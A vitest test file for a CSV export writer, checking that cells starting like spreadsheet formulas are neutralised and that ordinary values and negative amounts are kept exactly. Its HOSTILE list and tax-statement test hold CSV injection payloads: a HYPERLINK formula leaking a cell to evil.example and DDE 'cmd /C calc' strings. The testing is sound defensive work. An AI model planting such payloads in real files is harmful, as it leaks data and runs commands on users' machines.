// The one CSV writer (issue 37 point 7): what the exports write, read back by csv-parse as a
// spreadsheet would import it. Hostile text cells come back neutralised (a leading apostrophe, the
// rest unchanged), ordinary values, negative amounts among them, exactly as given. The studio
// earnings export over HTTP is in earnings.test.ts (a payout reference that is a formula).
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvDecimal, toCsv } from "../src/lib/csv.ts";
import { ticketsCsv } from "../src/modules/lottery/draw.ts";
import { statementCsv } from "../src/modules/tax/statement.ts";
import type { TaxRecordRow } from "../src/modules/tax/tables.ts";

const read = (csv: string) => parse(csv, { relax_column_count: false }) as string[][];

/** Cells a spreadsheet would run (OWASP CSV injection), with the characters that start them. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&B2,"Payout receipt")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
];
const ORDINARY = [
  "NEFT UTR 7001",
  "Kalki 2898 AD, première",
  'The "Bahubali" card',
  "two\nlines",
  "₹ 1,00,000",
  "2026-05-04T06:30:00.000Z",
  "0x5fbdb2315678afecb367f032d93f642f64180aa3",
  "12a-=@+",
  "",
];

describe("toCsv", () => {
  it("neutralises every cell that starts like a formula, and keeps the rest of it", () => {
    const rows = read(toCsv(HOSTILE.map((h) => [h, "after"])));
    expect(rows).toEqual(HOSTILE.map((h) => [`'${h}`, "after"]));
  });

  it("writes ordinary text, integers and decimal amounts (negative ones included) exactly", () => {
    const csv = toCsv(
      [ORDINARY, [-5n, 0n, 10n ** 30n, -42, 7, csvDecimal("-1250.50"), csvDecimal("0.05"), null, undefined]],
      { header: ["a", "b", "c", "d", "e", "f", "g", "h", "i"] },
    );
    expect(read(csv)).toEqual([
      ["a", "b", "c", "d", "e", "f", "g", "h", "i"],
      ORDINARY,
      ["-5", "0", (10n ** 30n).toString(), "-42", "7", "-1250.50", "0.05", "", ""],
    ]);
    // RFC 4180 lines by default, LF on request; the last line ends too.
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(toCsv([["x"], ["y"]], { eol: "\n" })).toBe("x\ny\n");
  });

  it("refuses a decimal that is not one, and a number that is not a safe integer", () => {
    for (const bad of ["-1+1", "=1", "1e5", "", " 1", "1.", "--1"])
      expect(() => csvDecimal(bad), bad).toThrow(/not a decimal amount/);
    expect(() => toCsv([[0.1]])).toThrow(/not a safe integer/);
    expect(() => toCsv([[2 ** 60]])).toThrow(/not a safe integer/);
  });
});

describe("the exports, through the writer", () => {
  it("the tax statement neutralises a hostile NFT title (a leading minus too) and keeps negative gains numbers", () => {
    const record = (
      side: "purchase" | "sale",
      title: string,
      valuePaise: bigint,
      acquisitionPaise: bigint | null,
    ) =>
      ({
        side,
        title,
        occurredAt: new Date(Date.UTC(2025, 5, 1, 6, 30)),
        tokenId: "7",
        paidWith: "card",
        amountWei: null,
        symbol: null,
        rateDay: "2025-06-01",
        valuePaise,
        acquisitionPaise,
        tdsRateBps: 100,
        tdsPaise: 0n,
        tdsTreatment: side === "sale" ? "below_threshold" : "not_applicable",
      }) as unknown as TaxRecordRow;
    const csv = statementCsv({
      user: { name: "A", email: "a@example.com" },
      financialYear: "2025-26",
      specifiedPerson: false,
      rule: undefined,
      generatedAt: new Date(),
      records: [
        record("purchase", '-1+HYPERLINK("http://evil.example/")', 150_000n, null),
        record("sale", "=cmd|' /C calc'!A0", 100_050n, 150_000n),
      ],
    });
    const [header, purchase, sale] = read(csv);
    const col = (name: string) => header!.indexOf(name);
    expect(purchase![col("NFT")]).toBe('\'-1+HYPERLINK("http://evil.example/")');
    expect(sale![col("NFT")]).toBe("'=cmd|' /C calc'!A0");
    expect(sale![col("Value (INR)")]).toBe("1000.50");
    expect(sale![col("Acquisition cost (INR)")]).toBe("1500.00");
    expect(sale![col("Gain (INR)")]).toBe("-499.50");
    expect(purchase![col("Token ID")]).toBe("7");
  });

  it("tickets.csv is the same bytes the database writes: first,last,holder and LF, no header", () => {
    const bytes = ticketsCsv([
      { first: 1, last: 3, orderId: "a" },
      { first: 4, last: 4, orderId: "b" },
    ]);
    const lines = bytes.toString("utf8").split("\n");
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe("");
    expect(lines[0]).toMatch(/^1,3,[0-9a-f]{64}$/);
    expect(lines[1]).toMatch(/^4,4,[0-9a-f]{64}$/);
  });
});
